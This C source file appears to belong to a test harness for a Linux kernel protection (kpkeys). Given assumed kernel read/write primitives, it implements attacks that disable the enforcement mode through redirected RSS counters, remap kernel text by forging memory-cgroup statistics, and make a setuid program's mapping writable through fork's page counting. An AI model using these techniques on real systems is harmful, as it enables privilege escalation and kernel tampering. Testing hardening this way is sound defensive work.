// SPDX-License-Identifier: GPL-2.0-only
/*
 * Attacks by way of what else runs in an open section: statistics, whose
 * counters are found by pointers in ordinary memory.
 */
#include <errno.h>
#include <signal.h>
#include <sys/mman.h>
#include <sys/wait.h>
#include <unistd.h>

#include "attack.h"
#include "list.h"
#include "objects.h"

#define COUNTER_SIZE	40	/* of a struct percpu_counter */
#define COUNTER_POINTER	32
#define COUNTERS	4	/* of an mm; their int's lie side by side */
#define MM_WORDS	256
#define ANON_PAGES	1	/* which of them */
#define MODE_ENFORCE	2	/* first word of kpkeys_state; one less is audit */

/* Where the pointer to a per-CPU counter of anonymous pages is. */
static uint64_t find_counter(uint64_t mm)
{
	const int step = COUNTER_SIZE / sizeof(uint64_t);
	uint64_t words[MM_WORDS];
	int i, n;

	kread(mm, words, sizeof(words));
	for (i = 0; i + COUNTERS * step < MM_WORDS; i++) {
		for (n = 1; n < COUNTERS && words[i] &&
			    words[i + n * step] == words[i] + n * sizeof(int); n++)
			;
		if (n == COUNTERS)
			return mm + (i + ANON_PAGES * step) * sizeof(uint64_t);
	}
	return 0;
}

/* What CPU 0 adds to a per-CPU address. */
static uint64_t offset_of_cpu(void)
{
	return ksymbol_cpu("runqueues", 0) - ksymbol("runqueues");
}

/* Unmapping a page subtracts one, inside the section. */
static int count_down(uint64_t target)
{
	void *page = mmap(NULL, PAGE_SIZE, PROT_READ | PROT_WRITE,
			  MAP_PRIVATE | MAP_ANONYMOUS | MAP_POPULATE, -1, 0);
	uint64_t pointer, old;
	struct task task;
	int err;

	if (ktask(0, &task))
		return -1;
	pointer = find_counter(task.mm);
	if (!pointer)
		return -1;
	old = kread64(pointer);
	err = kwrite64(pointer, target - offset_of_cpu());
	munmap(page, PAGE_SIZE);
	return kwrite64(pointer, old) ?: err;
}

/* The mode is put back: audit lets that through. */
static int store_after_counting(const void *how, uint64_t slot, uint64_t value)
{
	uint64_t mode = ksymbol("kpkeys_state");
	int was = 0, err;

	stay_on_cpu(0);
	if (mode)
		kread(mode, &was, sizeof(was));
	if (was == MODE_ENFORCE && count_down(mode))
		return -ENOENT;
	err = plain_store(how, slot, value);
	if (was == MODE_ENFORCE)
		kwrite(mode, &was, sizeof(was));
	return err;
}

enum outcome rss_counter(void)
{
	return steal_secret_by(store_after_counting, NULL);
}

/*
 * The same with the statistics of a memory cgroup, which struct page names.
 * What is subtracted there is compared with nothing: byte by byte it moves an
 * entry of the attacker's from an own page down to kernel text.
 */
#define MEMCG_SIZE	PAGE_SIZE	/* at most */
#define OBJECT_MEMCG	16	/* of a struct obj_cgroup */
#define PER_NODE_STATS	8	/* of a struct mem_cgroup_per_node; its memcg is first */
#define PER_CPU_END	(1UL << 40)	/* of per-CPU pointers */
#define PER_CPU_IMAGE	-(2UL << 30)	/* where newer kernels begin to count them: in the image */
#define STATS		64	/* at most */
#define FILE_PAGES	256
#define OWN_MEMORY	(512UL << 20)
#define FEW_PAGES	64

struct statistics {
	uint64_t named, forged_name;	/* by struct page */
	struct kernel_page forged, node, object;
	int index;		/* of mapped pages of files */
};

static bool is_per_cpu(uint64_t value)
{
	return value < PER_CPU_END || value >= PER_CPU_IMAGE;
}

static uint64_t find_node(uint64_t memcg, size_t *offset)
{
	uint64_t words[PAGE_SIZE / sizeof(uint64_t)];

	kread(memcg, words, sizeof(words));
	for (*offset = 0; *offset < sizeof(words); *offset += sizeof(*words)) {
		uint64_t node = words[*offset / sizeof(*words)];

		if (is_kernel_address(node) && kread64(node) == memcg &&
		    is_per_cpu(kread64(node + PER_NODE_STATS)))
			return node;
	}
	return 0;
}

static bool copy_page(const struct kernel_page *to, uint64_t from)
{
	char copy[PAGE_SIZE];

	return !kread(from, copy, sizeof(copy)) && !kwrite(to->addr, copy, sizeof(copy));
}

static char *map_file(int fd, int pages)
{
	char *at = mmap(NULL, pages * PAGE_SIZE, PROT_READ, MAP_SHARED | MAP_POPULATE, fd, 0);

	/* Nobody shall take a page for one that was used, and move it to another list. */
	madvise(at, pages * PAGE_SIZE, MADV_RANDOM);
	return at;
}

/* The statistic that mapping pages adds to; the first time adds to those of the LRU, too. */
static int find_index(uint64_t node, int fd)
{
	uint64_t at = kread64(node + PER_NODE_STATS) + offset_of_cpu();
	long before[STATS], after[STATS];
	char *file = map_file(fd, FILE_PAGES);
	int i;

	munmap(file, FILE_PAGES * PAGE_SIZE);
	kread(at, before, sizeof(before));
	file = map_file(fd, FILE_PAGES);
	kread(at, after, sizeof(after));
	munmap(file, FILE_PAGES * PAGE_SIZE);
	for (i = 0; i < STATS; i++)
		if (after[i] - before[i] == FILE_PAGES)
			return i;
	return -1;
}

/* In newer kernels struct page names an object, and that the memory cgroup. */
static uint64_t memcg_of_object(struct statistics *stats)
{
	uint64_t object = stats->named & -8UL;

	if (!kernel_page(&stats->object) || !copy_page(&stats->object, object))
		return 0;
	kwrite64(stats->object.addr + OBJECT_MEMCG, stats->forged.addr);
	stats->forged_name = stats->object.addr | (stats->named & 7);
	return kread64(object + OBJECT_MEMCG);
}

static bool forge_statistics(struct statistics *stats, int fd)
{
	char *file = map_file(fd, 1);
	uint64_t node, memcg;
	struct slot slot;
	size_t offset;

	if (kwalk((uint64_t)file, LEAF, 0, &slot) || munmap(file, PAGE_SIZE))
		return false;
	memcg = stats->named = kread64(slot.page + PAGE_MEMCG);
	if (!memcg || !kernel_page(&stats->forged) || !kernel_page(&stats->node))
		return false;
	stats->forged_name = stats->forged.addr;
	node = find_node(memcg, &offset);
	if (!node) {
		memcg = memcg_of_object(stats);
		node = memcg ? find_node(memcg, &offset) : 0;
	}
	stats->index = node ? find_index(node, fd) : -1;
	if (stats->index < 0 || !copy_page(&stats->forged, memcg) || !copy_page(&stats->node, node))
		return false;
	/* Newer kernels go back to the memory cgroup, and from there to the node once more. */
	if (memcg != stats->named)
		kwrite64(stats->node.addr, stats->forged.addr);
	return !kwrite64(stats->forged.addr + offset, stats->node.addr);
}

static int name_memcg(const char *file, int pages, uint64_t name, uint64_t *page)
{
	struct slot slot;
	int i, err = 0;

	for (i = 0; i < pages && !err; i++) {
		if (file && !kwalk((uint64_t)file + i * PAGE_SIZE, LEAF, 0, &slot))
			page[i] = slot.page;
		err = kwrite64(page[i] + PAGE_MEMCG, name);
	}
	return err;
}

/* Unmap as many pages of the file. */
static int subtract(const struct statistics *stats, int fd, uint64_t target, int nr)
{
	uint64_t page[FILE_PAGES];
	char *file;
	int err;

	if (!nr)
		return 0;
	file = map_file(fd, nr);
	err = kwrite64(stats->node.addr + PER_NODE_STATS,
		       target - stats->index * sizeof(long) - offset_of_cpu());
	err = err ?: name_memcg(file, nr, stats->forged_name, page);
	munmap(file, nr * PAGE_SIZE);
	return name_memcg(NULL, nr, stats->named, page) ?: err;
}

/* Each byte of the entry has units of its own: 1/16, 16 and 4096 pages. */
static int move_entry(const struct statistics *stats, int fd, uint64_t slot, uint64_t pages)
{
	int err = subtract(stats, fd, slot + 1, pages % 16 * 16);

	err = err ?: subtract(stats, fd, slot + 2, pages / 16 % 256);
	return err ?: subtract(stats, fd, slot + 3, pages / 4096);
}

/* One whose number is higher than that of a page of text, which may be anywhere. */
static volatile char *map_page_behind(uint64_t phys, struct slot *slot)
{
	volatile char *page = mmap(NULL, OWN_MEMORY, PROT_READ | PROT_WRITE,
				   MAP_PRIVATE | MAP_ANONYMOUS, -1, 0), *end = page + OWN_MEMORY;

	madvise((void *)page, OWN_MEMORY, MADV_NOHUGEPAGE);
	for (; page < end; page += PAGE_SIZE) {
		page[0] = 1;
		if ((uintptr_t)page / PAGE_SIZE % FEW_PAGES == 0 &&
		    !kwalk((uint64_t)page, LEVEL_PTE, 0, slot) && slot->phys > phys)
			return page;
	}
	return NULL;
}

enum outcome memcg_statistics(void)
{
	uint64_t phys = text_phys() & -PAGE_SIZE;
	int fd = memfd_create("statistics", 0), err;
	enum outcome outcome;
	struct statistics stats;
	volatile char *page;
	struct slot slot;

	stay_on_cpu(0);
	if (fd < 0 || ftruncate(fd, FILE_PAGES * PAGE_SIZE) || !forge_statistics(&stats, fd))
		return broken("no statistics found");
	page = map_page_behind(phys, &slot);
	if (!page)
		return broken("no own page behind text");
	err = move_entry(&stats, fd, slot.slot, (slot.phys - phys) / PAGE_SIZE);
	if ((kread64(slot.slot) & PTE_PFN_MASK) != phys)
		return lost("the stores gave %d, and the entry does not map text", err);
	flush_tlb();
	outcome = patch_text_in_user_mapping((char *)page + text_phys() % PAGE_SIZE);
	/* Who unmaps it finds its own page there. */
	kwrite64(slot.slot, slot.value);
	flush_tlb();
	return outcome;
}

/*
 * fork() counts each page that it copies in what its struct page calls the head:
 * one more user, and one more mapping in the word before that. The words are
 * the lower half of an entry that maps a file for reading, and the upper half
 * of one that belongs to nobody. Two pages make the entry writable.
 */
#define FORK_PART	0x5d
#define COUNTED_PAGES	2	/* which is the bit to be set */
#define MANY		1000

struct counted {
	uint64_t page[COUNTED_PAGES], word[COUNTED_PAGES];
};

/* Locked pages are on no list, whose pointer would be where the head is. */
static bool lock_pages(struct counted *counted)
{
	char *at = mmap(NULL, COUNTED_PAGES * PAGE_SIZE, PROT_READ | PROT_WRITE,
			MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
	struct slot slot;
	int i;

	if (at == MAP_FAILED || mlock(at, COUNTED_PAGES * PAGE_SIZE))
		return false;
	for (i = 0; i < COUNTED_PAGES; i++) {
		if (kwalk((uint64_t)at + i * PAGE_SIZE, LEAF, 0, &slot))
			return false;
		counted->page[i] = slot.page;
		counted->word[i] = kread64(slot.page + PAGE_COMPOUND_HEAD);
	}
	return true;
}

/* Or, without a head, as they were. */
static int set_head(const struct counted *counted, uint64_t head)
{
	int i, err = 0;

	for (i = 0; i < COUNTED_PAGES; i++)
		err = kwrite64(counted->page[i] + PAGE_COMPOUND_HEAD,
			       head ? head + 1 : counted->word[i]) ?: err;
	return err;
}

/* What the child gives back as it dies. */
static bool make_head(struct kernel_page *head)
{
	int many = MANY;

	return kernel_page(head) &&
	       !kwrite(head->addr + PAGE_MAPCOUNT, &many, sizeof(many)) &&
	       !kwrite(head->addr + PAGE_REFCOUNT, &many, sizeof(many));
}

static int fork_with_head(const struct counted *counted, uint64_t head, uint64_t other)
{
	int err = set_head(counted, head);
	pid_t pid = err ? -1 : fork();

	if (!pid)
		for (;;)
			pause();
	err = set_head(counted, other) ?: err;
	if (pid > 0) {
		kill(pid, SIGKILL);
		waitpid(pid, NULL, 0);
	}
	return set_head(counted, 0) ?: err;
}

enum outcome fork_compound_head(void)
{
	volatile char *file = setuid_program_map(user_room(FORK_PART) + PMD_SIZE / 2);
	struct kernel_page other;
	struct counted counted;
	struct slot slot;
	int err;

	if (!file || kwalk((uint64_t)file, LEVEL_PTE, 0, &slot))
		return broken("no entry that maps the program");
	if (!lock_pages(&counted) || !make_head(&other))
		return broken("no pages to be counted");
	err = fork_with_head(&counted, slot.slot - PAGE_REFCOUNT, other.addr);
	if (!pte_is_writable(kread64(slot.slot)))
		return lost("the stores gave %d, and the entry is read-only", err);
	return setuid_program_overwrite(file);
}
